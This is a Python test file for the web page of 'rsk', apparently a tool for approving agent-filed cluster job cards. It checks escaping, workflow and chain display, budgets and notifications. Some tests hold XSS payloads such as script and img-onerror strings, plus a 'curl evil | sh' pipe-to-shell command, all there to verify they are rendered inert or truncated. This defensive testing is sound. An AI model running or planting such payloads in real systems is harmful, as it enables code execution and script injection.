"""The page's parts are pure: text is escaped where it enters (rsk.ui.html), agent text made inert too, and a
workflow card shows its graph by levels."""

from __future__ import annotations

from rsk.ledger.models import CardTask
from rsk.ledger.store import Store
from rsk.ui import pages
from rsk.ui.feeds import cards
from rsk.ui.html import Markup, agent, el, esc
from tests.ui_cards import file_card, file_extension


def test_every_string_is_text_and_only_built_markup_passes() -> None:
    assert (
        el("p", {"title": '"><script>'}, "<b>x</b>") == '<p title="&quot;&gt;&lt;script&gt;">&lt;b&gt;x&lt;/b&gt;</p>'
    )
    assert el("p", {}, el("b", {}, "x")) == "<p><b>x</b></p>"
    assert esc(Markup("<i>")) == "<i>" and esc("<i>") == "&lt;i&gt;"
    assert el("input", {"required": True, "disabled": False, "value": None}) == "<input required>"
    assert agent("a\u202eb\nc<") == "a\\u202eb\\nc&lt;"  # inert (visible escapes), then escaped


def test_a_workflow_card_shows_its_levels_and_each_tasks_needs(project: str) -> None:
    def task(key: str, needs: list[str]) -> CardTask:
        return CardTask(key=key, argv=["run", key], env=[], nodes=1, cpus=1, mem_mb=1, gpus=0, time_min=1, needs=needs)

    file_card(project, tasks=[task("prep", []), task("train", ["prep:ok"]), task("report", ["train:any"])])
    view = cards([project])
    html = pages.cards_section(view, csrf="t")
    assert "workflow, 3 tasks in 3 levels" in html
    assert html.index('<code class="word">prep</code>') < html.index('<code class="word">train</code>')
    assert "(ended)" in html  # report waits for train to end, whatever its outcome


def test_pending_cards_come_first_oldest_on_top_and_decided_below(project: str) -> None:
    from rsk.ledger.cards import deny
    from rsk.ledger.store import Store

    file_card(project, "c-000000000001")
    file_card(project, "c-000000000002")
    file_card(project, "c-000000000003")
    deny(Store(project), "c-000000000002", "me", "no")
    view = cards([project])
    assert [c.id for _, c in view.pending] == ["c-000000000001", "c-000000000003"]
    assert [c.id for _, c in view.decided] == ["c-000000000002"]
    html = pages.cards_section(view, csrf=None)
    assert "<form" not in html  # read-only: no acts


def test_a_jobs_output_is_text() -> None:
    from rsk.ops.logs import LogTail

    tail = LogTail(job_id="7", request_id="r", stream="stdout", started=True, ended=None, size=40,
                   text="<script>alert(1)</script>\n\x1b[31mred\n")  # fmt: skip
    html = pages.logs_section("p", "lab", "7", "stdout", tail, "")
    assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "\x1b" not in html and "\\x1bred" in html.replace("[31m", "")
    assert "still running" in html and "stream=stderr" in html


def test_a_notification_names_the_page_only_while_it_runs(rsk_env: object, project: str) -> None:
    import os

    from rsk.ledger.notify import PageFile, page_file, summary
    from rsk.local.atomic import write_atomic

    card = file_card(project)
    assert summary(card, project)["page"] is None
    write_atomic(page_file(), PageFile(address="http://127.0.0.1:4242/", pid=os.getpid()).model_dump_json().encode())
    told = summary(card, project)
    assert told["page"] == f"http://127.0.0.1:4242/#card-{card.id}" and "on the page" in str(told["summary"])
    dead = PageFile(address="http://127.0.0.1:4242/", pid=2**22 + 12345)  # no such process: a stale file
    write_atomic(page_file(), dead.model_dump_json().encode())
    assert summary(card, project)["page"] is None


def test_a_notification_says_when_it_cuts_the_command(rsk_env: object, project: str) -> None:
    from rsk.ledger.notify import summary

    card = file_card(project, argv=["sh", "-c", "x" * 190 + " ; curl evil | sh"])
    text = str(summary(card, project)["summary"])
    assert "more characters: see the card" in text and "curl" not in text


def test_gpu_holders_named_by_jobs_are_text() -> None:
    from rsk.ops.gpus import Gpu, GpuInventory, GpuNode

    held = Gpu(index=0, type="a100", state="held", job_id="9", job_name='"><img src=x onerror=alert(1)>\u202e')
    inv = GpuInventory(target="lab", at="now", total=2, free=1, nodes=[
        GpuNode(name="n1", state="MIXED", partitions=["gpu"], total=2, free=1, gpus=[held, Gpu(index=1, state="free")])
    ])  # fmt: skip
    html = pages.gpus_section([inv], "")
    assert "<img" not in html and "\u202e" not in html and html.count("&lt;img src=x") == 2  # tooltip and cell
    assert "1 of 2 GPUs free" in html


def test_a_chain_card_shows_its_links_and_budget(project: str) -> None:
    links = [CardTask(key=f"link-{i}", argv=["python", "train.py", "--resume"], env=["CKPT=/ckpt"], nodes=1, cpus=1,
                      mem_mb=1, gpus=1, time_min=t) for i, t in enumerate([60, 60, 30])]  # fmt: skip
    card = file_card(project, tasks=links)
    with Store(project).transaction() as ledger:
        ledger.cards[0].plan = ledger.cards[0].plan.model_copy(update={"budget_min": 150})
    html = pages.card_facts(Store(project).load().cards[0])
    assert "chain: up to 3 links of 60 min (the last 30), at most 150 min" in html and card.id
    assert html.count("<li>60 min</li>") == 2 and "CKPT=/ckpt" in html and "<table" not in html
    assert "extends" not in html and '<code class="word">--resume</code>' in html
    # `rsk extend`: the card says which chain its links go on after (the chain's name is the agent's text)
    with Store(project).transaction() as ledger:
        ledger.cards[0].plan = ledger.cards[0].plan.model_copy(update={"chain_of": "run-7<b>"})
    html = pages.card_facts(Store(project).load().cards[0])
    assert "<dt>extends</dt><dd>chain <code>run-7&lt;b&gt;</code>: these links go on after its last" in html
    with Store(project).transaction() as ledger:
        ledger.cards[0].plan = ledger.cards[0].plan.model_copy(update={"link0": 4, "signal_s": 600})
    html = pages.card_facts(Store(project).load().cards[0])
    assert "go on after its 4 links" in html and "(SIGUSR1, 600 s before its limit)" in html
    # what the links add to the chain's budget, as `rsk extend --budget` counted it (a new total)
    assert "they add 150 min to its budget (the new total asked, less each link that started counted" in html
    from rsk.cli.ledger_cmds import render_card

    assert "they add 150 min to its budget" in render_card(Store(project).load().cards[0])
    # `rsk retry`: the card says which batch the attempt runs again, in that batch's work directory
    with Store(project).transaction() as ledger:
        ledger.cards[0].plan = ledger.cards[0].plan.model_copy(update={"attempt_of": "wf<i>"})
    html = pages.card_facts(Store(project).load().cards[0])
    assert "<dt>retries</dt><dd>batch <code>wf&lt;i&gt;</code>: these tasks run again, in its work directory" in html


def test_the_board_names_batches_workflows_chains_and_leases_with_their_states() -> None:
    from rsk.ops.status import JobState, Status
    from rsk.ops.watcher import Snapshot

    def job(rid: str, job_id: str, state: str, **kw: object) -> JobState:
        return JobState(request_id=rid, task=kw.pop("task", None), job_id=job_id, state=state, exit_code=None,  # type: ignore[arg-type]
                        signal=None, elapsed_s=600, limit_s=3600, where="n1", submitted="", **kw)  # type: ignore[arg-type]  # fmt: skip

    jobs = [
        job("sweep", "10_0", "succeeded", task="s0"), job("sweep", "10_1", "running", task="s1"),
        job("wf", "11_0", "succeeded", task="prep"), job("wf", "11_1", "pending", task="train", needs=["prep"]),
        job("run-7", "12", "stopped", task="link1", link="1/3"),
        job("run-7", "13", "running", task="link2", link="2/3"),
        job("run-7", "14", "pending", task="link3", link="3/3"),
        job("hold", "15", "running", lease="gpus"), job("step-1", "15s1", "succeeded", lease="gpus"),
        job("one", "16", "failed"),
    ]  # fmt: skip
    snap = Snapshot([Status(target="lab", project="p", slurm="up", at="now", jobs=jobs)], {}, 5.0)
    html = pages.board_section([("p", snap)], "", 0.0)
    kinds = html[html.index('<table class="kinds">') : html.index("</table>")]
    for label, n in (("1 batch", 2), ("1 workflow", 2), ("1 chain", 3), ("1 lease", 2), ("1 single job", 1),
                     ("in all", 10)):  # fmt: skip
        assert f"<th>{label}</th><td>{n} job(s)</td>" in kinds, label
    assert '<tr class="kind chain"><th>1 chain</th><td>3 job(s)</td><td><span class="badge pending">1 pending' in kinds
    assert "link 2/3, run time 0:30:00 / 3:00:00" in html  # how far the chain got, of its budget
    for kind, rid in (("batch", "sweep"), ("workflow", "wf"), ("chain", "run-7"), ("lease", "lease gpus")):
        assert f'<span class="kind">{kind}</span> <code>{rid}</code>' in html


def test_the_board_counts_a_workflows_levels_and_escapes_what_jobs_name() -> None:
    from rsk.ops.status import JobState, Status
    from rsk.ops.watcher import Snapshot

    def job(task: str, state: str, needs: list[str]) -> JobState:
        return JobState(request_id="wf<1>", task=task, job_id=f"1_{task}", state=state, exit_code=None,  # type: ignore[arg-type]
                        signal=None, elapsed_s=1, limit_s=60, where="<b>n1</b>", submitted="", needs=needs)  # fmt: skip

    jobs = [job("prep", "succeeded", []), job("a", "running", ["prep"]), job("b", "pending", ["prep"])]
    snap = Snapshot([Status(target="lab", project="p", slurm="up", at="now", jobs=jobs)], {}, 5.0)
    html = pages.board_section([("p", snap)], "", 0.0)
    assert "level 0: 1 task(s), 1 succeeded" in html and "level 1: 2 task(s), 1 pending, 1 running" in html
    assert "wf&lt;1&gt;" in html and "<b>n1" not in html
    assert "/logs?project=p&amp;target=lab&amp;job=1_a" in html  # a job's last lines, on click


def test_a_slow_source_is_asked_at_most_once_an_interval_however_often_the_page_reads() -> None:
    from rsk.errors import ConnectError
    from rsk.ui.feeds import Fresh

    now = [100.0]
    asked: list[float] = []

    def fetch() -> int:
        asked.append(now[0])
        if len(asked) == 3:
            raise ConnectError("the cluster does not answer")
        return len(asked)

    fresh = Fresh(fetch, every=5.0, clock=lambda: now[0], spawn=lambda work: work())
    assert fresh.read()[:2] == (1, "")  # the first read asks (here in place; the page asks in a thread)
    for _ in range(50):  # the page polls every 2 s, many tabs at once: the cluster is not asked again
        assert fresh.read()[0] == 1
    now[0] += 5.0
    assert fresh.read()[:2] == (2, "")
    now[0] += 5.0
    assert fresh.read()[:2] == (2, "the cluster does not answer")  # a failure keeps the last view and says why
    assert asked == [100.0, 105.0, 110.0]
    busy = Fresh(fetch, every=5.0, clock=lambda: now[0], spawn=lambda work: None)  # a refresh still running
    busy.read()
    busy.read()
    assert asked == [100.0, 105.0, 110.0]  # and a second reader starts no second one


def test_the_hook_command_gets_the_cards_address_on_the_page(rsk_env: object, project: str, tmp_path: object) -> None:
    """The human's notification command: $RSK_CARD_PAGE and the summary name the card on the running page."""
    import json
    import os
    import time
    from pathlib import Path

    from rsk.ledger.notify import PageFile, card_filed, page_file
    from rsk.local.atomic import write_atomic
    from rsk.local.paths import config_dir

    seen = Path(str(tmp_path)) / "seen.json"
    config_dir().mkdir(parents=True, exist_ok=True)
    (config_dir() / "config.toml").write_text(
        f"[notify]\ncommand = '''python3 -c \"import json, os; print(json.dumps(dict(os.environ)))\" > {seen}.tmp"
        f" && mv {seen}.tmp {seen}'''\n"
    )
    card = file_card(project)
    page_file().parent.mkdir(parents=True, exist_ok=True)
    write_atomic(page_file(), PageFile(address="http://127.0.0.1:4242/", pid=os.getpid()).model_dump_json().encode())
    card_filed(card, project)
    deadline = time.monotonic() + 20  # the hook runs detached: wait for what it wrote, not for a time
    while not seen.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    env = json.loads(seen.read_text())
    assert env["RSK_CARD_PAGE"] == f"http://127.0.0.1:4242/#card-{card.id}"
    assert env["RSK_CARD_SUMMARY"].endswith(f"or on the page: http://127.0.0.1:4242/#card-{card.id}")
    assert env["RSK_CARD_ID"] == card.id


def test_the_board_shows_a_request_with_its_attempts_and_a_cancelled_chain_where_it_stopped() -> None:
    from rsk.ops.status import JobState, Status
    from rsk.ops.watcher import Snapshot

    def job(rid: str, job_id: str, state: str, elapsed: int | None, limit: int | None, **kw: object) -> JobState:
        return JobState(request_id=rid, task=kw.pop("task", None), job_id=job_id, state=state, exit_code=None,  # type: ignore[arg-type]
                        signal=None, elapsed_s=elapsed, limit_s=limit, where="n1", submitted="", nodes=1, cpus=2,
                        gpus=0, **kw)  # type: ignore[arg-type]  # fmt: skip

    jobs = [
        # a chain of 3 one-minute links, extended by 2 more (`rsk extend`: request b.a2, links numbered on)
        job("b", "1", "stopped", 60, 60, task="link1", link="1/3"),
        job("b", "2", "stopped", 60, 60, task="link2", link="2/3"),
        job("b", "3", "stopped", 60, 60, task="link3", link="3/3"),
        job("b.a2", "4", "stopped", 60, 60, task="link4", link="4/5"),
        job("b.a2", "5", "running", 30, 60, task="link5", link="5/5"),
        # cancelled during link 2 of 4: links 3 and 4 never started, and Slurm says no limit for them
        job("g", "6", "stopped", 60, 60, task="link1", link="1/4"),
        job("g", "7", "cancelled", 32, 60, task="link2", link="2/4"),
        job("g", "8", "cancelled", 0, None, task="link3", link="3/4"),
        job("g", "9", "cancelled", None, None, task="link4", link="4/4"),
        # a workflow and its retry
        job("wf", "10_0", "succeeded", 5, 60, task="prep"),
        job("wf", "10_1", "failed", 5, 60, task="train", needs=["prep"]),
        job("wf.a2", "11_0", "running", 5, 60, task="train", needs=["prep"]),
    ]
    snap = Snapshot([Status(target="lab", project="p", slurm="up", at="now", jobs=jobs)], {}, 5.0)
    html = pages.board_section([("p", snap)], "", 0.0)
    assert html.count('<details class="batch"') == 3
    assert "<code>b</code> (with <code>b.a2</code>) p on lab: 5 job(s)" in html
    assert "link 5/5, run time 0:04:30 / 0:05:00" in html
    # where it was cancelled, of the budget its links that started count (as `rsk extend` counts it)
    assert "link 2/4, run time 0:01:32 / 0:02:00" in html
    assert "<code>wf</code> (with <code>wf.a2</code>)" in html
    assert "level 1: 1 task(s), 1 running" in html  # the retry's attempt is the task's state now
    assert "0.15 CPU-h used, 0.02 reserved" in html  # b: 270 s of 2 CPUs, and 30 s still to go


def test_budgets_total_what_cards_approved_one_by_one_let_run(project: str) -> None:
    from rsk.ledger.cards import approve
    from rsk.ledger.models import JobCost, Use
    from rsk.ui.feeds import budgets

    a = file_card(project, "c-000000000b01")
    b = file_card(project, "c-000000000b02", plan_hash="g" * 64)
    approve(Store(project), a.id, "me", uses=3)
    approve(Store(project), b.id, "me")
    with Store(project).transaction() as ledger:
        first, second = ledger.approvals
        first.uses = [
            Use(request_id="r-1", target="lab", state="submitted",  # ended: Slurm's run time
                jobs={"1": JobCost(gpu_hours_worst=0.17, cpu_hours_worst=0.33, gpu_hours_used=0.05,
                                   cpu_hours_used=0.1)}),
            Use(request_id="r-2", target="lab", state="submitted",  # still running: its worst case
                jobs={"2": JobCost(gpu_hours_worst=0.17, cpu_hours_worst=0.33)}),
            Use(request_id="r-3", target="lab", state="released"),  # nothing ran
        ]  # fmt: skip
        second.uses = [Use(request_id="r-4", target="lab", state="held")]  # may still submit: the card's worst
    html = pages.budgets_section(budgets([project]))
    table = html[html.index('<table class="approved">') :]
    assert "<code>c-000000000b01</code>" in table and "2 used, 3 left" in table
    assert "<td>0.05 / 0.17</td><td>0.10 / 0.33</td>" in table
    assert "in all, 2 approval(s)</th><th>0.05 / 0.34</th><th>0.10 / 0.66</th>" in table


def test_an_unreadable_ledger_is_said_first_not_under_no_card_waits(project: str) -> None:
    from rsk.local.paths import rsk_home

    file_card(project)
    ledger = next((rsk_home() / "projects" / project).glob("ledger.json"))
    ledger.write_text(ledger.read_text().replace('"plan_hash"', '"plan_hash_x"', 1))
    html = pages.cards_section(cards([project]), csrf="t")
    assert html.index(f"The ledger of project {project} cannot be read") < html.index("Waiting for you (0)")
    assert "No card waits in the ledgers that could be read." in html and 'role="alert"' in html


def test_a_lease_card_names_the_lease_and_its_terms(project: str) -> None:
    card = file_card(project)
    with Store(project).transaction() as ledger:
        ledger.cards[0].plan = ledger.cards[0].plan.model_copy(
            update={"kind": "lease", "lease_open": "dev<b>", "drain_min": 5, "overrun": "clip"}
        )
    stored = Store(project).load().cards[0]
    html = pages.card_facts(stored)
    assert "<code>dev&lt;b&gt;</code>: its steps share it; none starts in its last 5 min" in html and card.id
    assert "clipped to what is left" in html
    from rsk.cli.ledger_cmds import render_card

    assert "lease dev<b>: its steps share it; none starts in its last 5 min" in render_card(stored)


def test_an_extension_card_shows_what_its_chain_ran_and_cost_and_the_total_if_spent_in_full(project: str) -> None:
    from rsk.cli.ledger_cmds import render_card
    from rsk.ledger.cards import chain_run

    card = file_extension(project)
    store = Store(project)
    run = chain_run(store, store.load(), card)
    assert run is not None and (run.queued, run.links, run.run_s, run.run_unknown) == (5, 3, 135, 0)
    assert abs(run.cpu_hours - 2 * 135 / 3600) < 1e-4 and run.gpu_hours_open == 0
    so_far = "3 link(s) ran (of 5 queued), run time 0:02:15, 0.00 GPU-h, 0.07 CPU-h"
    total = "5 links, run time 0:04:15, 0.00 GPU-h, 0.14 CPU-h"
    view = cards([project])
    html = pages.cards_section(view, csrf="t")
    assert f"<dt>so far</dt><dd>{so_far}" in html and f"if this extension is spent in full: <strong>{total}" in html
    text = render_card(card, run=run)
    assert (
        f"so far        {so_far} (the books" in text
        and f"in all        if this extension is spent in full: {total}" in text
    )
    # the settled books moved to the archive: the same run so far
    from datetime import UTC, datetime, timedelta

    from rsk.ledger.archive import compact

    with store.transaction() as ledger:
        store.archive.append(compact(ledger, datetime.now(UTC) + timedelta(days=2)))
    assert not store.load().charges and chain_run(store, store.load(), card) == run
    # a card that extends no chain shows no run
    plain = file_card(project, "c-0000000000b1")
    assert chain_run(store, store.load(), plain) is None and "so far" not in render_card(plain)
